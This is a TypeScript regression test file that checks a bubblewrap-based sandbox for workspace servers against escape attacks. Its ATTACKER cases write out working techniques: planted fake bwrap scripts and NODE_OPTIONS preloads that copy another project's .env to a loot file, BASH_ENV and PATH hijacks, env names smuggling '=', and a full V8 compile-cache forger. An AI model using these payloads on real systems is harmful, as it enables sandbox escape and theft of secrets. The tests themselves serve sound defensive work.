/**
 * Issue 27, second outside attack: what a workspace controls of a sandboxed launch (its env file's PATH,
 * NODE_OPTIONS and BASH_ENV, the command it names) must neither run anything outside the sandbox nor open
 * another folder of home. srt, the shell it spawns bubblewrap with, bubblewrap and socat run on the host:
 * they took `bwrap` from the launch's PATH, so a workspace's (or a server's own planted) tools/bwrap ran
 * unsandboxed. Every case runs the real srt (bubblewrap) with the escapee fixture as the attacker; each
 * ATTACKER test failed before its fix. Linux.
 */
import * as assert from 'node:assert/strict';
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import * as nodeModule from 'node:module';
import * as path from 'node:path';
import { parseServers } from '../../src/core/config/parse';
import { fixtureServer, text, waitForState } from './helpers';
import { homeTestHost, makeHomeFixture, srtCli, type HomeFixture } from './sandboxSupport';

const linux = process.platform === 'linux';
const escapee = fixtureServer('escapee');

function script(file: string, body: string): string {
  mkdirSync(path.dirname(file), { recursive: true });
  writeFileSync(file, `#!/bin/sh\n${body}\n`);
  chmodSync(file, 0o755);
  return file;
}

type Fixture = HomeFixture;

function makeFixture(prefix: string): Fixture {
  const f = makeHomeFixture(prefix);
  // An ordinary executable file at the top of another project (gradlew, mvnw, configure, build.sh…).
  script(path.join(f.other, 'gradlew'), 'echo "the real gradlew"');
  return f;
}

const testHost = (f: Fixture, mayWiden: boolean) => homeTestHost(f, mayWiden);

/** Starts declaration `decl` as a workspace server (mayWiden: false), sandboxed, and hands its tool caller to `use`. */
async function withServer(f: Fixture, decl: Record<string, unknown>, use: (call: (tool: string, args: Record<string, unknown>) => Promise<{ isError: boolean; text: string }>, log: () => string) => Promise<void>, mayWiden = false): Promise<void> {
  const t = testHost(f, mayWiden);
  try {
    await t.host.apply({ e: { sandbox: true, ...decl } });
    const c = t.host.require('e');
    await waitForState(c, 'running', 30_000);
    const log = () => t.loggers.get('e')!.text();
    assert.match(log(), /Sandboxed: writes only to/);
    await use(async (tool, args) => { const r = await c.callTool(tool, args); return { isError: r.isError === true, text: text(r) }; }, log);
  } finally { await t.host.shutdown(); }
}

/** The outside attack's forger (a file the sandboxed server writes and runs in its root): a V8 code cache for srt's cli.js. */
const FORGE = "// Forges a V8 code cache for srt's cli.js: same length, same module-ness, another program.\nimport fs from 'node:fs'; import cp from 'node:child_process'; import path from 'node:path';\nconst [cli, cc, loot, secret] = process.argv.slice(2);\nconst run = (file, args, dir) => cp.spawnSync(process.execPath, [file, ...args], { env: { ...process.env, NODE_COMPILE_CACHE: dir, NODE_DEBUG_NATIVE: 'COMPILE_CACHE' }, encoding: 'utf8' });\nconst r = run(cli, ['--version'], cc + '-gen');\nconst m = /reading cache from (\\S+) for ESM file:\\/\\/(\\S+?\\/dist\\/cli\\.js)\\.\\.\\./.exec(r.stderr);\nif (!m) { console.log('no genuine entry: ' + r.stderr.slice(0, 2000)); process.exit(1); }\nconst [, genuineFile, realCli] = m;\nconst src = fs.readFileSync(realCli, 'utf8');\nlet evil = `const fs=process.getBuiltinModule('fs');if(!import.meta.url.includes('?')){try{fs.writeFileSync(${JSON.stringify(loot)},fs.readFileSync(${JSON.stringify(secret)}))}catch{}import(import.meta.url+'?real')}`;\nevil += '/*' + 'x'.repeat(src.length - evil.length - 4) + '*/';\nfs.mkdirSync(cc + '-evil', { recursive: true });\nconst evilFile = path.join(cc + '-evil', 'cli.mjs');\nfs.writeFileSync(evilFile, evil);\nconst r2 = run(evilFile, [], cc + '-evilcache');\nconst m2 = /reading cache from (\\S+) for ESM/.exec(r2.stderr);\nconst g = fs.readFileSync(genuineFile), e = fs.readFileSync(m2[1]);\nconst out = Buffer.concat([g.subarray(0, 8), e.subarray(8, 12), g.subarray(12, 16), e.subarray(16)]);\nconst target = path.join(cc, path.basename(path.dirname(genuineFile)), path.basename(genuineFile));\nfs.mkdirSync(path.dirname(target), { recursive: true });\nfs.writeFileSync(target, out);\nconsole.log(`forged ${target} for ${realCli} (${src.length} chars)`);\n";

(linux ? describe : describe.skip)('sandbox: what a workspace sets of a launch (PATH, NODE_OPTIONS, BASH_ENV, the command) runs nothing outside the sandbox and opens no other folder of home (issue 27, outside attack)', function () {
  this.timeout(90_000);
  let f: Fixture;
  beforeEach(() => { f = makeFixture('mcp-a27b-path-'); });
  afterEach(() => rmSync(f.dir, { recursive: true, force: true }));

  it('control: a plain sandboxed escapee cannot read another project\'s .env', async () => {
    await withServer(f, { command: process.execPath, args: [escapee] }, async call => {
      const r = await call('read-file', { path: path.join(f.other, '.env') });
      assert.equal(r.isError, true, r.text);
    });
  });

  it('ATTACKER (relative PATH entry): PATH=tools:~/other-project — runtimeFolders skips `tools`, bash does not: the workspace\'s own `gradlew` runs and ~/other-project is readable', async () => {
    // findProgram ignores the relative entry and finds ~/other-project/gradlew (a regular executable file,
    // outside the roots, no link): ~/other-project becomes "the install". bash -c inside the sandbox searches
    // `tools` (relative to the cwd, the workspace folder) first and runs the workspace's gradlew: the attacker.
    script(path.join(f.project, 'tools', 'gradlew'), `exec ${process.execPath} ${escapee}`);
    writeFileSync(path.join(f.project, '.env'), `PATH=tools:${f.other}:/usr/local/bin:/usr/bin:/bin\n`);
    await withServer(f, { command: 'gradlew', args: [], envFile: '.env' }, async (call, log) => {
      const r = await call('read-file', { path: path.join(f.other, '.env') });
      assert.equal(r.isError, true, `the sandboxed server read ${path.join(f.other, '.env')}: ${r.text}\n${log().split('\n').filter(l => /Sandboxed|rules/.test(l)).join('\n')}`);
    });
  });

  it('ATTACKER (empty PATH entry): PATH=:~/other-project — the empty entry is the cwd for bash, skipped by runtimeFolders', async () => {
    script(path.join(f.project, 'gradlew'), `exec ${process.execPath} ${escapee}`);
    writeFileSync(path.join(f.project, '.env'), `PATH=:${f.other}:/usr/local/bin:/usr/bin:/bin\n`);
    await withServer(f, { command: 'gradlew', args: [], envFile: '.env' }, async call => {
      const r = await call('read-file', { path: path.join(f.other, '.env') });
      assert.equal(r.isError, true, `the sandboxed server read ${path.join(f.other, '.env')}: ${r.text}`);
    });
  });

  it('ATTACKER (command names a file in home, BASH_ENV runs the attacker first): command ~/other-project/gradlew makes ~/other-project readable', async () => {
    // The workspace declares an absolute command in another folder of home: its folder is "the install"
    // (not a `bin/`, so the whole folder). The sandbox runs it through `bash -c`, which first sources
    // $BASH_ENV from the env file: the attacker's code, with ~/other-project readable.
    // Sourced by every bash that starts (also ones the host's shell files start): act in the one that runs the command.
    script(path.join(f.project, 'tools', 'pre.sh'), `case "$BASH_EXECUTION_STRING" in *gradlew*) exec ${process.execPath} ${escapee};; esac`);
    writeFileSync(path.join(f.project, '.env'), `BASH_ENV=${path.join(f.project, 'tools', 'pre.sh')}\n`);
    let read: string | undefined;
    try {
      await withServer(f, { command: path.join(f.other, 'gradlew'), args: [], envFile: '.env' }, async call => {
        const r = await call('read-file', { path: path.join(f.other, '.env') });
        if (!r.isError) read = r.text;
      });
    } catch (e) {
      // Now the folder of a workspace's command is not opened: that command cannot run in the sandbox at all.
      assert.match(String(e), /did not reach running/);
    }
    assert.equal(read, undefined, `the sandboxed server read ${path.join(f.other, '.env')}: ${read}`);
  });

  it('ATTACKER (srt finds bwrap on the launch PATH): a `bwrap` in the workspace runs OUTSIDE the sandbox and reads all of home', async () => {
    // checkSandboxSupport and srt both take bwrap (and socat) from the launch's PATH, which the env file sets.
    // srt spawns `bwrap …` through /bin/sh: the first bwrap on that PATH runs unsandboxed. This one copies
    // the secret next to the project (outside the sandbox's view) and then runs the real bwrap so the server starts.
    const loot = path.join(f.home, 'loot.txt');
    script(path.join(f.project, 'tools', 'bwrap'), `cat ${path.join(f.other, '.env')} > ${loot}\nexec /usr/bin/bwrap "$@"`);
    writeFileSync(path.join(f.project, '.env'), `PATH=${path.join(f.project, 'tools')}:/usr/local/bin:/usr/bin:/bin\n`);
    await withServer(f, { command: process.execPath, args: [escapee], envFile: '.env' }, async () => {
      assert.equal(existsSync(loot) ? readFileSync(loot, 'utf8') : 'no loot', 'no loot',
        `the workspace's ${path.join(f.project, 'tools', 'bwrap')} ran outside the sandbox and copied ${path.join(f.other, '.env')} to ${loot}`);
    });
  });

  it('ATTACKER (the same, planted by the sandboxed server itself on an earlier run): it writes .env and tools/bwrap in its root; the next start runs its bwrap unsandboxed', async () => {
    const loot = path.join(f.home, 'loot.txt');
    writeFileSync(path.join(f.project, '.env'), 'HARMLESS=1\n');
    const decl = { command: process.execPath, args: [escapee], envFile: '.env' };
    await withServer(f, decl, async call => {
      const w1 = await call('write-file', { path: path.join(f.project, 'tools-bwrap'), text: `#!/bin/sh\ncat ${path.join(f.other, '.env')} > ${loot}\nexec /usr/bin/bwrap "$@"\n` });
      assert.equal(w1.isError, false, w1.text);
      const mk = await call('run', { command: '/bin/sh', args: ['-c', 'mkdir -p tools && mv tools-bwrap tools/bwrap && chmod 755 tools/bwrap'], cwd: f.project });
      assert.equal(mk.isError, false, mk.text);
      const w2 = await call('write-file', { path: path.join(f.project, '.env'), text: `PATH=${path.join(f.project, 'tools')}:/usr/local/bin:/usr/bin:/bin\n` });
      assert.equal(w2.isError, false, w2.text);
      const r = await call('read-file', { path: path.join(f.other, '.env') });
      assert.equal(r.isError, true, 'control: inside the sandbox the secret is hidden');
    });
    await withServer(f, decl, async () => {
      assert.equal(existsSync(loot) ? readFileSync(loot, 'utf8') : 'no loot', 'no loot', `the server's planted tools/bwrap ran outside the sandbox on the next start and copied ${path.join(f.other, '.env')}`);
    });
  });

  it('ATTACKER (NODE_OPTIONS reaches srt\'s own node): --require of a workspace file runs in srt\'s process outside the sandbox', async () => {
    const loot = path.join(f.home, 'loot-node-options.txt');
    // Runs in every node that loads it: outside the sandbox it can read the secret, inside it cannot.
    writeFileSync(path.join(f.project, 'pre.js'), `try { require('fs').writeFileSync(${JSON.stringify(loot)}, require('fs').readFileSync(${JSON.stringify(path.join(f.other, '.env'))}, 'utf8')); } catch {}\n`);
    writeFileSync(path.join(f.project, '.env'), `NODE_OPTIONS=--require ${path.join(f.project, 'pre.js')}\n`);
    await withServer(f, { command: process.execPath, args: [escapee], envFile: '.env' }, async call => {
      assert.equal(existsSync(loot) ? readFileSync(loot, 'utf8') : 'no loot', 'no loot', 'the workspace\'s NODE_OPTIONS ran its code in srt\'s process, outside the sandbox');
      // The server still gets the declaration's NODE_OPTIONS, inside the sandbox.
      const r = await call('run', { command: '/bin/sh', args: ['-c', 'printf %s "$NODE_OPTIONS"'], cwd: f.project });
      assert.equal(r.text.trim(), `--require ${path.join(f.project, 'pre.js')}`);
    });
  });

  it('the server gets the PATH its declaration sets, inside the sandbox', async () => {
    writeFileSync(path.join(f.project, '.env'), `PATH=${path.join(f.project, 'tools')}:/usr/local/bin:/usr/bin:/bin\n`);
    await withServer(f, { command: process.execPath, args: [escapee], envFile: '.env' }, async call => {
      const r = await call('run', { command: '/bin/sh', args: ['-c', 'printf %s "$PATH"'], cwd: f.project });
      assert.equal(r.text.trim(), `${path.join(f.project, 'tools')}:/usr/local/bin:/usr/bin:/bin`);
    });
  });

  it('ATTACKER (NODE_COMPILE_CACHE reaches srt\'s node): the server forges a V8 code cache for srt\'s cli.js in its root; on the next start srt runs it OUTSIDE the sandbox', async function () {
    // Node's module compile cache (22.1+) is what the attack forges: an older Node ignores the variable. Listed in test/skipped-tests.json.
    if (typeof (nodeModule as { enableCompileCache?: unknown }).enableCompileCache !== 'function') this.skip();
    // NODE_COMPILE_CACHE is not host-side. Node checks a cache entry against a CRC of the source and of the
    // cache data, V8 only against the source's LENGTH: the code cache of another module of the same length
    // (written under the entry's name with the genuine source CRC) is accepted and its bytecode runs in srt's
    // own node, unsandboxed. The forged program copies the secret out and then imports the real cli.js (?real),
    // so srt goes on and the server starts as usual.
    const loot = path.join(f.home, 'loot-compile-cache.txt');
    const secret = path.join(f.other, '.env');
    writeFileSync(path.join(f.project, '.env'), 'HARMLESS=1\n');
    const decl = { command: process.execPath, args: [escapee], envFile: '.env' };
    await withServer(f, decl, async call => {
      const w = await call('write-file', { path: path.join(f.project, 'forge.mjs'), text: FORGE });
      assert.equal(w.isError, false, w.text);
      const r = await call('run', { command: process.execPath, args: [path.join(f.project, 'forge.mjs'), srtCli, path.join(f.project, '.cc'), loot, secret], cwd: f.project });
      assert.equal(r.isError, false, r.text);
      assert.match(r.text, /forged/);
      const w2 = await call('write-file', { path: path.join(f.project, '.env'), text: `NODE_COMPILE_CACHE=${path.join(f.project, '.cc')}\n` });
      assert.equal(w2.isError, false, w2.text);
      const s = await call('read-file', { path: secret });
      assert.equal(s.isError, true, 'control: inside the sandbox the secret is hidden');
    });
    await withServer(f, decl, async () => {
      assert.equal(existsSync(loot) ? readFileSync(loot, 'utf8') : 'no loot', 'no loot', `the server\'s forged code cache ran in srt\'s node outside the sandbox on the next start and copied ${secret} to ${loot}`);
    });
  });
  it('ATTACKER (NODE_V8_COVERAGE reaches srt\'s node): a workspace .env makes srt write files into ~/other-project, outside the sandbox', async () => {
    // Node writes coverage-<pid>-….json into $NODE_V8_COVERAGE when it exits; srt's node runs on the host.
    // (The server's own node gets it too, but inside the sandbox it cannot write there.)
    writeFileSync(path.join(f.project, '.env'), `NODE_V8_COVERAGE=${f.other}\n`);
    await withServer(f, { command: process.execPath, args: [escapee], envFile: '.env' }, async call => {
      const w = await call('write-file', { path: path.join(f.other, 'x'), text: 'x' });
      assert.equal(w.isError, true, 'control: inside the sandbox ~/other-project is not writable');
    });
    await new Promise(r => setTimeout(r, 1000));
    const written = readdirSync(f.other).filter(n => n.startsWith('coverage-'));
    assert.deepEqual(written, [], `srt's node wrote ${written.join(', ')} into ${f.other} outside the sandbox`);
  });

  it('ATTACKER (an env name holding "="): {"NODE_OPTIONS=--require <ws>/pre.js --title": "x"} and {"PATH=<ws>/tools:…": ""} are refused as broken declarations, and nothing runs on the host', async () => {
    // Written out as NODE_OPTIONS=… and PATH=…: every program reads them as those names (the host's cgroup
    // wrapper, dash, even keeps the last PATH of two), so srt's node ran pre.js and srt ran tools/bwrap.
    const loot = path.join(f.home, 'loot-equals.txt');
    const pre = path.join(f.project, 'pre.js');
    writeFileSync(pre, `try { require('fs').writeFileSync(${JSON.stringify(loot)}, require('fs').readFileSync(${JSON.stringify(path.join(f.other, '.env'))}, 'utf8')); } catch {}\n`);
    script(path.join(f.project, 'tools', 'bwrap'), `cat ${path.join(f.other, '.env')} > ${loot}\nexec /usr/bin/bwrap "$@"`);
    const parsed = parseServers({
      a: { sandbox: true, command: process.execPath, args: [escapee], env: { [`NODE_OPTIONS=--require ${pre} --title`]: 'x' } },
      b: { sandbox: true, command: process.execPath, args: [escapee], env: { [`PATH=${path.join(f.project, 'tools')}:/usr/bin:/bin:/x`]: '' } },
    });
    for (const server of ['a', 'b']) {
      assert.ok(parsed.problems.some(p => p.server === server && p.severity === 'error' && /may not be empty or hold "="/.test(p.message)), `${server}: ${JSON.stringify(parsed.problems)}`);
    }
    // Through the host as a workspace would declare them: nothing starts, nothing runs outside the sandbox.
    const t = testHost(f, false);
    try {
      await t.host.apply({ a: { sandbox: true, command: process.execPath, args: [escapee], env: { [`NODE_OPTIONS=--require ${pre} --title`]: 'x' } } });
      await new Promise(r => setTimeout(r, 3000));
      assert.notEqual(t.host.get('a')?.state, 'running');
    } finally { await t.host.shutdown(); }
    assert.equal(existsSync(loot) ? readFileSync(loot, 'utf8') : 'no loot', 'no loot', 'a declaration\'s env name with "=" ran code outside the sandbox');
  });

  it('ATTACKER (an empty entry in the editor\'s own PATH): srt runs in the workspace folder, so a bwrap planted there would run on the host; it does not', async () => {
    const loot = path.join(f.home, 'loot-editor-path.txt');
    script(path.join(f.project, 'bwrap'), `cat ${path.join(f.other, '.env')} > ${loot}\nexec /usr/bin/bwrap "$@"`);
    const saved = process.env.PATH;
    // The editor's environment (this test process's) with a leading empty entry: a common slip in a shell profile.
    process.env.PATH = `${path.delimiter}${saved}`;
    try {
      await withServer(f, { command: process.execPath, args: [escapee], cwd: f.project }, async call => {
        const r = await call('read-file', { path: path.join(f.other, '.env') });
        assert.equal(r.isError, true, 'control: inside the sandbox the secret is hidden');
      });
    } finally { process.env.PATH = saved; }
    // srt is told where bubblewrap and socat are: it looks nothing up by name in the folder it runs in.
    const rulesDir = path.join(f.storage, 'sandbox-rules');
    const rules = readdirSync(rulesDir).map(n => JSON.parse(readFileSync(path.join(rulesDir, n), 'utf8')) as { bwrapPath?: string; socatPath?: string });
    assert.ok(rules.length && rules.every(r => r.bwrapPath && path.isAbsolute(r.bwrapPath) && !r.bwrapPath.startsWith(f.project) && r.socatPath && path.isAbsolute(r.socatPath)), JSON.stringify(rules));
    assert.equal(existsSync(loot) ? readFileSync(loot, 'utf8') : 'no loot', 'no loot', `the workspace's ${path.join(f.project, 'bwrap')} ran outside the sandbox`);
  });
});
